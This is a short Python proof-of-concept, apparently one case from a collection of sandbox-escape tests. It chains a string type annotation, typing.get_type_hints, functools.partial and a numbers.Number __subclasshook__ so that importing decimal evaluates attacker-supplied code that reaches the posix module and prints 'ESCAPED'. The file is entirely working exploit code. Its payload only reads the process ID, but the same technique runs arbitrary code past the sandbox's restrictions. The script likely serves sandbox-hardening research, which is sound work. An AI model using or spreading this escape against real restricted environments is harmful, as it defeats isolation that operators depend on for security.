# technique: importing decimal registers it with numbers.Number, which asks our subclass' __subclasshook__: a C callable that runs typing.get_type_hints inside the import
# goal: import
# source: own analysis: trusted functions called by C callables have the rights of a section
import numbers
import typing
from functools import partial

found = []


class Hinted:
    x: "found.append(__import__('posix').getpid()) or int"


Hinted.__module__ = 'os'
hints = map(partial(typing.get_type_hints, localns={'found': found}), [Hinted])


class Number(numbers.Number):
    __subclasshook__ = partial(next, hints)


try:
    import decimal
except AssertionError:
    pass
print('ESCAPED pid=%d' % found[0])
